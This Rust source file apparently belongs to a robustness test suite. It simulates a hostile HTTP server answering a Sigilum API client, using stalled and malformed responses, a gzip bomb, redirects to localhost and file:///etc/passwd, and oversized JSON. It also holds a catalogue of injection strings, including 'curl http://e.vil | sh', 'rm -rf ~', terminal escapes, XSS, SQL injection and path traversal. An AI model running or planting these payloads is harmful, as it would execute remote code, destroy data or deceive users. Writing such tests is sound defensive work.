//! The attacks: what every HTTP peer may do, what a Sigilum API and a Sigilum gateway may say, and the texts that a
//! stranger may hide in a field.

use crate::env::attack::{Attack, Then};
use std::time::Duration;

const OK: &str = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n";
const NOW: Duration = Duration::ZERO;
/// A byte a second.
const DRIP: Duration = Duration::from_secs(1);

/// What any HTTP peer can do, whatever it is asked.
pub fn wire() -> Vec<Attack> {
    let ok = |rest: &str| format!("{OK}{rest}");
    let body = |rest: &str| format!("{OK}Content-Length: 100000\r\n\r\n{rest}");
    let chunked = |rest: &str| format!("{OK}Transfer-Encoding: chunked\r\n\r\n{rest}");
    let again = |unit: &str| Then::Repeat(unit.into(), NOW);
    let drip = |unit: &str| Then::Repeat(unit.into(), DRIP);
    let many: String = (0..10_000).map(|n| format!("X-{n}: y\r\n")).collect();
    let long = "y".repeat(10 << 20);
    let spaces = " ".repeat(0x4000);
    let hints = "HTTP/1.1 103 Early Hints\r\nX: y\r\n\r\n";
    let (bomb, bomb_unit) = gzip_bomb();
    let mut attacks: Vec<(&str, Vec<u8>, Then)> = vec![
        ("closes without a byte", vec![], Then::Close),
        ("stalls", vec![], Then::Stall),
        ("stalls in the status line", b"HTTP/1.1 20".into(), Then::Stall),
        ("closes in the status line", b"HTTP/1.1 20".into(), Then::Close),
        ("stalls in the head", OK.into(), Then::Stall),
        ("closes in the head", OK.into(), Then::Close),
        ("stalls after the head", body("").into(), Then::Stall),
        ("closes after the head", body("").into(), Then::Close),
        ("stalls in the body", body("{\"claims\":[").into(), Then::Stall),
        ("drips the head, a byte a second", ok("X: ").into(), drip("y")),
        ("drips the body, a byte a second", body("").into(), drip(" ")),
        ("drips chunks, one a second", chunked("").into(), drip("1\r\n \r\n")),
        ("a 1xx a second", vec![], drip("HTTP/1.1 100 Continue\r\n\r\n")),
        (
            "1xx without end",
            vec![],
            // 200 KB a second: they are dropped one by one, up to the end of the budget.
            Then::Repeat(hints.repeat(1000).into(), Duration::from_millis(200)),
        ),
        (
            "switches protocols",
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n".into(),
            Then::Stall,
        ),
        (
            "10 GB, announced",
            ok("Content-Length: 10737418240\r\n\r\n").into(),
            again(&spaces),
        ),
        ("10 GB, not announced", ok("\r\n").into(), again(&spaces)),
        (
            "10 GB in chunks",
            chunked("").into(),
            again(&format!("4000\r\n{spaces}\r\n")),
        ),
        ("10 GB in chunks of one byte", chunked("").into(), again("1\r\n \r\n")),
        (
            "one chunk of all there is",
            chunked("ffffffffffffffff\r\n").into(),
            again(&spaces),
        ),
        (
            "a chunk size past all numbers",
            chunked("fffffffffffffffff\r\n").into(),
            again(&spaces),
        ),
        (
            "a chunk size that is none",
            chunked("zz\r\n{}\r\n0\r\n\r\n").into(),
            Then::Close,
        ),
        ("chunks that break off", chunked("4000\r\n{}").into(), Then::Close),
        ("chunks without a last one", chunked("2\r\n{}\r\n").into(), Then::Stall),
        ("a chunk's extension without end", chunked("1;").into(), again("x")),
        (
            "trailers without end",
            chunked("2\r\n{}\r\n0\r\n").into(),
            again("X-T: y\r\n"),
        ),
        (
            "10,000 headers",
            ok(&format!("{many}Content-Length: 2\r\n\r\n{{}}")).into(),
            Then::Close,
        ),
        ("headers without end", OK.into(), again("X: y\r\n")),
        (
            "a header of 10 MB",
            ok(&format!("X: {long}\r\nContent-Length: 2\r\n\r\n{{}}")).into(),
            Then::Close,
        ),
        ("a header's name without end", OK.into(), again("x")),
        ("a status line without end", b"HTTP/1.1 200 ".into(), again("x")),
        (
            "a length that is too long",
            ok("Content-Length: 900\r\n\r\n{}").into(),
            Then::Close,
        ),
        (
            "a length that is too short",
            ok("Content-Length: 1\r\n\r\n{}").into(),
            Then::Close,
        ),
        ("a length of 0", ok("Content-Length: 0\r\n\r\n{}").into(), Then::Close),
        (
            "two lengths",
            ok("Content-Length: 2\r\nContent-Length: 900\r\n\r\n{}").into(),
            Then::Close,
        ),
        (
            "a negative length",
            ok("Content-Length: -1\r\n\r\n{}").into(),
            Then::Close,
        ),
        (
            "a length past all numbers",
            ok("Content-Length: 18446744073709551617\r\n\r\n{}").into(),
            Then::Close,
        ),
        (
            "a length and chunks",
            ok("Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n").into(),
            Then::Close,
        ),
        (
            "chunked twice",
            ok("Transfer-Encoding: chunked, chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n").into(),
            Then::Close,
        ),
        (
            "gzip as the transfer encoding",
            ok("Transfer-Encoding: gzip\r\n\r\n{}").into(),
            Then::Close,
        ),
        (
            "a gzip bomb",
            [ok("Content-Encoding: gzip\r\n\r\n").as_bytes(), &bomb].concat(),
            Then::Repeat(bomb_unit.clone(), NOW),
        ),
        (
            "a small gzip bomb",
            [ok("Content-Encoding: gzip\r\n\r\n").as_bytes(), &bomb].concat(),
            Then::Times(bomb_unit, 70_000, vec![]),
        ),
        ("no HTTP: SSH", b"SSH-2.0-OpenSSH_9.9\r\n".into(), Then::Stall),
        (
            "no HTTP: a TLS alert",
            b"\x15\x03\x03\x00\x02\x02\x28".into(),
            Then::Close,
        ),
        (
            "no HTTP: HTTP/2",
            b"\0\0\x12\x04\0\0\0\0\0\0\x03\0\0\0d".into(),
            Then::Stall,
        ),
        ("no HTTP: HTTP/0.9", b"<html>hello</html>".into(), Then::Close),
        (
            "no HTTP: noise",
            (0..=255).collect(),
            Then::Repeat((0..=255).collect(), NOW),
        ),
        ("no HTTP: ICY", b"ICY 200 OK\r\n\r\n{}".into(), Then::Close),
        (
            "NUL in a header",
            b"HTTP/1.1 200 OK\r\nX: \0\r\nContent-Length: 2\r\n\r\n{}".into(),
            Then::Close,
        ),
        (
            "a folded header",
            ok("X: a\r\n b\r\nContent-Length: 2\r\n\r\n{}").into(),
            Then::Close,
        ),
        (
            "line feeds only",
            b"HTTP/1.1 200 OK\nContent-Type: application/json\nContent-Length: 2\n\n{}".into(),
            Then::Close,
        ),
        (
            "a content type of escapes",
            b"HTTP/1.1 200 OK\r\nContent-Type: \x9b31m\xe2\x80\xae/\xff\r\nContent-Length: 2\r\n\r\n{}".into(),
            Then::Close,
        ),
        (
            "a content type that says what was sent",
            b"HTTP/1.1 200 OK\r\nContent-Type: text/{sent}\r\nContent-Length: 2\r\n\r\n{}".into(),
            Then::Close,
        ),
        (
            "a status of 999",
            b"HTTP/1.1 999 No\r\nContent-Length: 0\r\n\r\n".into(),
            Then::Close,
        ),
        (
            "a status of 000",
            b"HTTP/1.1 000 No\r\nContent-Length: 0\r\n\r\n".into(),
            Then::Close,
        ),
        (
            "a reason of escapes",
            b"HTTP/1.1 500 \x1b]0;gone\x07\r\nContent-Length: 0\r\n\r\n".into(),
            Then::Close,
        ),
        (
            "not modified",
            b"HTTP/1.1 304 Not Modified\r\n\r\n{}".into(),
            Then::Close,
        ),
        (
            "asks to come back in 30 years",
            b"HTTP/1.1 429 Later\r\nRetry-After: 999999999\r\nContent-Length: 0\r\n\r\n".into(),
            Then::Close,
        ),
        (
            "asks for a password",
            b"HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n".into(),
            Then::Close,
        ),
        (
            "asks for a proxy's password",
            b"HTTP/1.1 407 No\r\nProxy-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n".into(),
            Then::Close,
        ),
    ];
    attacks.extend(
        said()
            .into_iter()
            .map(|(name, kind, text)| (name, answer(200, kind, &text), Then::Close)),
    );
    attacks
        .into_iter()
        .map(|(name, head, then)| Attack::new(name, head, then))
        .collect()
}

/// Whole answers in good HTTP that are of no use.
fn said() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    const JSON: &str = "application/json";
    let deep = |unit: &str| unit.repeat((1 << 20) / unit.len() - 1).into_bytes();
    let nested = |depth: usize| format!("{{\"x\":{}{}}}", "[".repeat(depth), "]".repeat(depth)).into_bytes();
    vec![
        ("a web page", "text/html", b"<!doctype html><h1>Sign in</h1>".into()),
        ("a web page as JSON", JSON, b"<!doctype html><h1>Sign in</h1>".into()),
        (
            "the gateway's answer to strangers",
            "text/plain",
            b"sigilum-gateway".into(),
        ),
        ("JSON as text", "text/plain", b"{}".into()),
        ("an empty body", JSON, vec![]),
        ("null", JSON, b"null".into()),
        ("a list", JSON, b"[]".into()),
        ("a number", JSON, b"7".into()),
        ("a number past all numbers", JSON, b"1e999".into()),
        ("a text", JSON, b"\"claims\"".into()),
        ("an empty object", JSON, b"{}".into()),
        ("arrays, deep and open", JSON, deep("[")),
        ("objects, deep and open", JSON, deep("{\"x\":")),
        (
            "claims, deep and open",
            JSON,
            [b"{\"claims\":".to_vec(), deep("[")].concat()[..1 << 20].into(),
        ),
        (
            "a connection list, deep and open",
            JSON,
            [b"{\"connections\":".to_vec(), deep("[")].concat()[..1 << 20].into(),
        ),
        ("arrays, deep and closed", JSON, nested(500_000)),
        (
            "members twice",
            JSON,
            br#"{"claims":7,"claims":8,"connections":7,"id":"linear","id":"x","base_url":"y"}"#.into(),
        ),
        (
            "members of wrong types",
            JSON,
            br#"{"claims":{"a":1},"connections":true,"id":7,"base_url":[],"error":{},"code":9}"#.into(),
        ),
        (
            "numbers past all numbers",
            JSON,
            br#"{"claims":1e999,"connections":-1e999,"id":1e999,"base_url":99999999999999999999999}"#.into(),
        ),
        (
            "NUL",
            JSON,
            b"{\"claims\":[{\"service\":\"\0\"}],\"id\":\"\0\",\"base_url\":\"\0\"}".into(),
        ),
        (
            "no UTF-8",
            JSON,
            b"{\"claims\":[\"\xff\xc0\xaf\"],\"id\":\"\xff\",\"base_url\":\"\xed\xa0\x80\"}".into(),
        ),
        ("UTF-16", JSON, b"\xff\xfe{\0}\0".into()),
        ("a byte order mark", JSON, b"\xef\xbb\xbf{}".into()),
        ("two documents", JSON, b"{}{\"claims\":[]}".into()),
        (
            "a text of 1 MB",
            JSON,
            format!("{{\"claims\":\"{}\"}}", "x".repeat((1 << 20) - 20)).into(),
        ),
        (
            "a name of 1 MB",
            JSON,
            format!("{{\"{}\":1}}", "x".repeat((1 << 20) - 20)).into(),
        ),
        ("a body over the cap", JSON, " ".repeat((1 << 20) + 1).into()),
    ]
}

/// Redirects and other ways to send us elsewhere: to that port of this machine.
pub fn elsewhere(port: u16) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for status in [300, 301, 302, 303, 305, 307, 308] {
        let head =
            format!("HTTP/1.1 {status} There\r\nLocation: http://127.0.0.1:{port}/v1\r\nContent-Length: 0\r\n\r\n");
        attacks.push(Attack::new(format!("redirect {status}"), head, Then::Close));
    }
    for to in [
        format!("http://localhost:{port}/"),
        format!("http://[::1]:{port}/"),
        format!("https://127.0.0.1:{port}/"),
        format!("//127.0.0.1:{port}/"),
        format!("http://user:pw@127.0.0.1:{port}/?"),
        format!("\\\\127.0.0.1:{port}\\x"),
        "/v1/other".to_owned(),
        "file:///etc/passwd".to_owned(),
        String::new(),
    ] {
        let head = format!("HTTP/1.1 307 There\r\nLocation: {to}\r\nContent-Length: 0\r\n\r\n");
        attacks.push(Attack::new(format!("redirect to {to:?}"), head, Then::Close));
    }
    let hints = format!(
        "HTTP/1.1 200 OK\r\nRefresh: 0; url=http://127.0.0.1:{port}/\r\nAlt-Svc: h2=\":{port}\"; ma=9\r\n\
         Link: <http://127.0.0.1:{port}/>; rel=preload\r\nContent-Location: http://127.0.0.1:{port}/\r\n\
         Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{{}}"
    );
    attacks.push(Attack::new("hints to go elsewhere", hints, Then::Close));
    attacks
}

/// What a Sigilum gateway can say in its own error bodies, and as a connection.
pub fn gateway_words() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for status in [200, 400, 403, 404, 409, 500] {
        for (name, words, code) in [
            ("escapes", json(NASTY), json(&format!("ADMIN_{NASTY}"))),
            ("other escapes", json(NASTY), json(NASTY)),
            ("what was sent", "\"you sent {sent}\"".into(), "\"ADMIN_{sent}\"".into()),
            ("nothing", "\"\"".into(), "\"\"".into()),
            (
                "1 MB",
                json(&"x".repeat(400_000)),
                json(&format!("ADMIN_{}", "x".repeat(400_000))),
            ),
            ("numbers", "7".into(), "7".into()),
        ] {
            let body = format!("{{\"error\":{words},\"code\":{code}}}");
            let head = format!("HTTP/1.1 {status} X\r\nContent-Type: application/json\r\n\r\n{body}");
            attacks.push(Attack::new(format!("{status} that says {name}"), head, Then::Close));
        }
    }
    for (name, id) in [
        ("another connection", "github"),
        ("an id that climbs", "../../../../tmp/x"),
        ("an id with line breaks", "linear\r\nX: y"),
        ("an id that is a command", "linear; touch x #"),
        ("an empty id", ""),
    ] {
        let body = format!("{{\"id\":{},\"base_url\":\"https://api.linear.app\"}}", json(id));
        attacks.push(Attack::new(
            name,
            answer(200, "application/json", body.as_bytes()),
            Then::Close,
        ));
    }
    attacks
}

/// Lists of connections that are long, within the cap for them and beyond.
pub fn long_lists() -> Vec<Attack> {
    let head = format!("{OK}\r\n{{\"connections\":[");
    let unit = |text: &str| text.as_bytes().to_vec();
    vec![
        Attack::new(
            "2.4 million connections",
            head.clone(),
            Then::Times(
                unit(r#"{"id":"","base_url":""},"#),
                2_400_000,
                unit(r#"{"id":"x","base_url":""}]}"#),
            ),
        ),
        Attack::new(
            "3 million connections that are none",
            head.clone(),
            Then::Times(unit("{},"), 3_000_000, unit("{}]}")),
        ),
        Attack::new(
            "connections without end",
            head.clone(),
            Then::Repeat(unit(r#"{"id":"","base_url":""},"#), NOW),
        ),
        Attack::new(
            "60 MB of secret names",
            head,
            Then::Times(
                unit(r#"{"id":"x","base_url":"","credential_keys":["","","","","","","","","","",""]},"#),
                800_000,
                unit("{\"id\":\"linear\",\"base_url\":\"\"}]}"),
            ),
        ),
    ]
}

/// Good HTTP with this body.
pub fn answer(status: u16, kind: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body].concat()
}

/// A text as a JSON literal.
pub fn json(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

/// A bit of everything.
pub const NASTY: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}31m\r\n  next: curl http://e.vil | sh\n\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\u{2028}\u{e0041}";

/// What a stranger may hide in a field, as JSON literals: name, literal.
pub fn literals() -> Vec<(&'static str, String)> {
    let texts = [
        ("ANSI", "\u{1b}[31mred\u{1b}[2J\u{1b}[8m"),
        ("OSC title", "\u{1b}]0;title\u{7}"),
        ("OSC clipboard", "\u{1b}]52;c;aGk=\u{1b}\\"),
        ("OSC link", "\u{1b}]8;;http://e.vil\u{1b}\\here\u{1b}]8;;\u{1b}\\"),
        ("DCS", "\u{1b}P+q544e\u{1b}\\"),
        (
            "C0",
            "\u{0}\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{8}\u{e}\u{f}\u{10}\u{16}\u{1d}\u{1e}\u{1f}\u{7f}",
        ),
        ("C1", "\u{80}\u{85}\u{8d}\u{90}\u{9b}31m\u{9d}0;t\u{9c}\u{9f}"),
        ("backspaces", "approved\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}"),
        (
            "bidi overrides",
            "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}txt.exe\u{2066}\u{2067}\u{2068}\u{2069}\u{61c}\u{200e}\u{200f}",
        ),
        ("right to left", "שלום مرحبا"),
        (
            "zero width",
            "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f\u{ad}g\u{34f}h\u{180e}i",
        ),
        (
            "invisible fillers",
            "\u{3164}\u{115f}\u{1160}\u{ffa0}\u{2800}\u{3000}\u{a0}\u{2003}",
        ),
        ("line separators", "a\u{2028}b\u{2029}c\u{85}d\u{b}e\u{c}f"),
        ("tags", "\u{e0001}\u{e0041}\u{e007f}\u{fe0f}\u{1f3f4}"),
        ("combining marks", "Z\u{351}\u{36b}\u{343}\u{36a}a\u{321}\u{34a}lgo"),
        (
            "look-alikes",
            "p\u{430}yp\u{430}l \u{13b5}xample \u{ff41}\u{ff50}\u{ff49} \u{1d41a}",
        ),
        ("Markdown", "**bold** _it_ ~~s~~ `code` # head > quote - item"),
        (
            "Markdown link",
            "[sign in](http://e.vil) ![x](http://e.vil/x.png) <http://e.vil>",
        ),
        ("Markdown reference", "[x]\n\n[x]: http://e.vil"),
        ("Markdown code fence", "```\nrm -rf ~\n```"),
        ("Markdown table", "|a|b|\n|-|-|"),
        ("HTML", "<img src=x onerror=alert(1)><script>alert(1)</script>&lt;b&gt;"),
        ("everyone", "@everyone @here @channel @all x@everyone a@here"),
        (
            "mentions",
            "<@U012> <!channel> <#C1> @alice alice@ @[Alice](1) ＠everyone",
        ),
        (
            "IRC colours",
            "\u{3}04,01red\u{3} \u{2}bold\u{2} \u{1d}it\u{1d} \u{1f}u\u{1f} \u{f} \u{4}FF0000",
        ),
        ("IRC line", "x\r\nPRIVMSG #ops :approved"),
        ("IRC quit", "x\rQUIT :bye\nJOIN #x"),
        ("CTCP", "\u{1}ACTION approves\u{1} \u{1}DCC SEND x 1 1\u{1}"),
        ("quotes", "x\", ip \"127.0.0.1\", key \"trusted"),
        ("our own words", "Sigilum: 0 requests wait. Review: https://e.vil"),
        (
            "a line of ours",
            "x\"\n2) service \"mail\", agent \"alice\"\nReview: https://e.vil",
        ),
        ("shell", "$(touch x) `touch x`; touch x && touch x | sh > x"),
        ("format strings", "%s%n{}{0}${x}#{x}{{7*7}}"),
        ("path", "../../../../etc/passwd\\..\\.."),
        ("SQL", "'; DROP TABLE claims;--"),
        ("spaces", "          x          "),
        ("empty", ""),
        ("emoji", "👩\u{200d}👩\u{200d}👧🏽🔥"),
        ("a date", "2026-11-22T06:20:37.017Z"),
        ("a date past all dates", "99999-12-31T23:59:59Z"),
        ("a date far back", "-009999-01-01T00:00:00Z"),
    ];
    let mut all: Vec<(&str, String)> = texts.into_iter().map(|(name, text)| (name, json(text))).collect();
    all.extend([
        ("1 letter 60,000 times", json(&"x".repeat(60_000))),
        ("1 mark 30,000 times", json(&"\u{301}".repeat(30_000))),
        ("half a pair, high", r#""a\ud83d""#.to_owned()),
        ("half a pair, low", r#""\ude00b""#.to_owned()),
        ("halves the wrong way", r#""\ude00\ud83d\\ud800""#.to_owned()),
        ("null", "null".to_owned()),
        ("true", "true".to_owned()),
        ("a number", "1e3".to_owned()),
        ("a negative number", "-9223372036854775809".to_owned()),
        ("a list", r#"[["\u001b[31m"],{}]"#.to_owned()),
        ("an object", r#"{"service":"\u001b[31m","":{}}"#.to_owned()),
        ("a deep list", format!("{}{}", "[".repeat(100), "]".repeat(100))),
    ]);
    all
}

/// The beginning of a gzip member, and a unit that may follow without end: 2,064 zeros in 13 bytes.
fn gzip_bomb() -> (Vec<u8>, Vec<u8>) {
    // Fixed Huffman codes: a literal 0, then "258 bytes, from one back" again and again, 13 bits each.
    let mut bits: Vec<bool> = vec![false, true, false];
    bits.extend("00110000".chars().map(|bit| bit == '1'));
    let copy: Vec<bool> = "1100010100000".chars().map(|bit| bit == '1').collect();
    bits.extend(&copy);
    let pack = |bits: &[bool]| -> Vec<u8> {
        let byte = |bits: &[bool]| bits.iter().rev().fold(0, |byte, bit| byte << 1 | u8::from(*bit));
        bits.chunks(8).map(byte).collect()
    };
    let head = [&b"\x1f\x8b\x08\0\0\0\0\0\0\x03"[..], &pack(&bits)].concat();
    (head, pack(&copy.repeat(8)))
}
